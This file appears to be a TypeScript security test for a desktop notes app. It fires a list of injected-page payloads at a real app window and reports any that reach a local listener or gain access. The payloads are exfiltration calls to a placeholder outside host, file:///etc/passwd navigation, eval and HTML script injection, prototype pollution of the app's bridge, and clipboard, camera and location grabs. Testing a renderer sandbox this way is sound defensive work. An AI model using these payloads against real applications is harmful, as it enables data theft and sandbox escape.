import { setTimeout as sleep } from 'node:timers/promises'
import { z } from 'zod'
import type { Attack } from '../attack'
import { openListener } from '../listener'
import { inTime, openRealWindow } from '../real-window'

/**
 * What code that got into the page would try, as its own words; `$OUT` is an address outside. One that answers `true`
 * got something it must not have.
 */
const attacks: readonly string[] = [
  // Ways out.
  'fetch("http://$OUT/").then(() => true, () => false)',
  'fetch("http://$OUT/", { mode: "no-cors", keepalive: true }).then(() => true, () => false)',
  'navigator.sendBeacon("http://$OUT/", "words"), false',
  'new WebSocket("ws://$OUT/"), false',
  'new EventSource("http://$OUT/"), false',
  'new Image().src = "http://$OUT/i.png", false',
  '(() => { const x = new XMLHttpRequest(); x.open("GET", "http://$OUT/"); x.send(); return false })()',
  '(async () => { const t = new WebTransport("https://$OUT/"); return t.ready.then(() => true, () => false) })()',
  `(async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:$OUT" }] }); p.createDataChannel("x");
    await p.setLocalDescription(await p.createOffer()); await new Promise((end) => setTimeout(end, 700)); p.close(); return false })()`,
  `(async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:$OUT?transport=tcp", username: "a", credential: "b" }] });
    p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer());
    await new Promise((end) => setTimeout(end, 700)); p.close(); return false })()`,
  ...[
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'preload',
    'modulepreload',
    'stylesheet',
    'icon',
    'manifest',
  ].map(
    (rel) =>
      `(() => { const l = document.createElement("link"); l.rel = "${rel}"; l.as = "script"; l.href = "http://$OUT/x"; document.head.append(l); return false })()`,
  ),
  ...['script', 'iframe', 'embed', 'video', 'audio', 'img', 'source', 'track'].map(
    (tag) =>
      `(() => { const t = document.createElement("${tag}"); try { t.src = "http://$OUT/x" } catch {} document.body.append(t); return false })()`,
  ),
  '(() => { const o = document.createElement("object"); o.data = "http://$OUT/x"; document.body.append(o); return false })()',
  '(() => { const f = document.createElement("form"); f.action = "http://$OUT/"; f.method = "POST"; document.body.append(f); f.submit(); return false })()',
  '(() => { const a = document.createElement("a"); a.href = "http://$OUT/"; a.ping = "http://$OUT/"; document.body.append(a); a.click(); return false })()',
  '(() => { const a = document.createElement("a"); a.href = "http://$OUT/"; a.download = "x"; document.body.append(a); a.click(); return false })()',
  '(() => { document.body.style.backgroundImage = "url(http://$OUT/x.png)"; return false })()',
  'new FontFace("x", "url(http://$OUT/x.woff2)").load().then(() => true, () => false)',
  'navigator.serviceWorker?.register("http://$OUT/sw.js").then(() => true, () => false) ?? false',
  '(() => { try { new Worker("http://$OUT/w.js") } catch {} return false })()',
  '(() => { try { importScripts("http://$OUT/x.js") } catch {} return false })()',
  // Other pages and windows.
  'open("http://$OUT/") !== null',
  'open("about:blank") !== null',
  'open("file:///etc/passwd") !== null',
  'open("app://reader/index.html") !== null',
  ...[
    'http://$OUT/',
    'file:///etc/passwd',
    'data:text/html,x',
    'about:blank',
    'about:srcdoc',
    'blob:x',
    'chrome://gpu',
    'view-source:app://reader/',
    'javascript:void(document.body.remove())',
  ].map((place) => `(() => { setTimeout(() => { location.href = "${place}" }); return false })()`),
  '(() => { history.pushState({}, "", "/other"); history.replaceState({}, "", "/index.html"); return false })()',
  `(async () => { const f = document.createElement("iframe"); document.body.append(f); const w = f.contentWindow;
    await new Promise((end) => setTimeout(end, 100)); return w?.bridge !== undefined && (await w.bridge.notes.backups()).ok === true })()`,
  '(async () => { const f = document.createElement("iframe"); f.srcdoc = "<script>parent.stolen = 1</script>"; document.body.append(f); await new Promise((end) => setTimeout(end, 100)); return globalThis.stolen === 1 })()',
  'document.documentElement.requestFullscreen().then(() => document.exitFullscreen(), () => undefined).then(() => false)',
  // Code out of words.
  '(() => { try { return eval("1") === 1 } catch { return false } })()',
  '(() => { try { return new Function("return 1")() === 1 } catch { return false } })()',
  '(async () => { try { setTimeout("globalThis.ran = 1") } catch {} await new Promise((end) => setTimeout(end, 50)); return globalThis.ran === 1 })()',
  '(async () => { try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"globalThis.ran = 1\\">") } catch {} await new Promise((end) => setTimeout(end, 200)); return globalThis.ran === 1 })()',
  '(async () => { try { const s = document.createElement("script"); s.textContent = "globalThis.ran = 1"; document.body.append(s) } catch {} return globalThis.ran === 1 })()',
  'import("data:text/javascript,export default 1").then(() => true, () => false)',
  // What belongs to Node or to the machine.
  'typeof require !== "undefined" || typeof process !== "undefined" || typeof module !== "undefined"',
  '(() => { const t = document.createElement("textarea"); document.body.append(t); t.focus(); const did = document.execCommand("paste"); t.remove(); return did })()',
  'navigator.clipboard.readText().then(() => true, () => false)',
  'navigator.mediaDevices.getUserMedia({ audio: true }).then(() => true, () => false)',
  'navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => true, () => false)',
  'Notification.requestPermission().then((answer) => answer === "granted")',
  'new Promise((end) => navigator.geolocation.getCurrentPosition(() => end(true), () => end(false), { timeout: 500 }))',
  'navigator.usb?.requestDevice({ filters: [] }).then(() => true, () => false) ?? false',
  'navigator.hid?.requestDevice({ filters: [] }).then((all) => all.length > 0, () => false) ?? false',
  // The bridge.
  '(() => { try { bridge.notes.save = () => 1 } catch {} return bridge.notes.save.length === 0 && bridge.notes.save() === 1 })()',
  '(() => { try { delete bridge.notes } catch {} return bridge.notes === undefined })()',
  '(() => { try { Object.defineProperty(globalThis, "bridge", { value: null }) } catch {} return globalThis.bridge === null })()',
  '(() => { const c = bridge.notes.save.constructor; try { return c("return typeof process")() !== "undefined" } catch { return false } })()',
  `(async () => { const then = Promise.prototype.then; let seen = 0; Promise.prototype.then = function (...all) { seen += 1; return then.apply(this, all) };
    try { await bridge.app.about() } finally { Promise.prototype.then = then } return false })()`,
  `(async () => { Object.prototype.ok = true; Object.prototype.visibility = "public";
    try { const answer = await bridge.notes.save([{}]); return Object.hasOwn(answer, "ok") && answer.ok === true } finally { delete Object.prototype.ok; delete Object.prototype.visibility } })()`,
  `(async () => { const map = Array.prototype.map; Array.prototype.map = () => []; try { await bridge.notes.backups() } finally { Array.prototype.map = map } return false })()`,
  '(() => { for (let i = 0; i < 300; i += 1) postMessage({ channel: "notes:purge", i }, "*"); return false })()',
  '(() => { const m = new MessageChannel(); postMessage("x", "*", [m.port2]); return false })()',
  '(() => { localStorage.setItem("x", "y".repeat(1e6)); localStorage.clear(); return false })()',
  '(() => { for (const kind of ["beforeunload", "unload", "pagehide"]) dispatchEvent(new Event(kind)); return false })()',
  '(() => { document.title = "<b>".repeat(1e5); return false })()',
]

const answerSchema = z.object({ result: z.object({ value: z.unknown() }) })

/** How long after an attack something may still go out, in milliseconds. */
const rest = 150

/** Code in the page of a real window: the window, its bridge and the notes are as before, and nothing went out. */
export const page: Attack = {
  name: 'page',
  tries: attacks.length,
  open: async () => {
    const listener = await openListener()
    let window = await openRealWindow()
    return {
      close: async () => {
        listener.close()
        await window.close()
      },
      attempt: async ({ number }) => {
        const code = attacks[number % attacks.length] ?? ''
        const filled = code.replaceAll('$OUT', `127.0.0.1:${listener.port}`)
        const expression = `(async () => { try { return (await (${filled})) === true } catch { return false } })()`
        // Asked for in so many words: otherwise the tools would switch off what forbids the page `eval`.
        const question = {
          expression,
          awaitPromise: true,
          returnByValue: true,
          allowUnsafeEvalBlockedByCSP: false,
        }
        const isMore = await inTime(window.app.command('Runtime.evaluate', question), code).then(
          (answer) => answerSchema.safeParse(answer).data?.result.value === true,
          () => false,
        )
        await sleep(rest)
        const fault = await window.fault().catch((error: unknown) => String(error))
        const heard = listener.heard()
        if (fault !== null) {
          // The next attack meets a window that is whole.
          await window.close()
          window = await openRealWindow()
        }
        if (heard > 0) return `${code} got out, ${heard} times`
        if (isMore) return `${code} got what it asked for`
        return fault === null ? null : `${code}: ${fault}`
      },
    }
  },
}
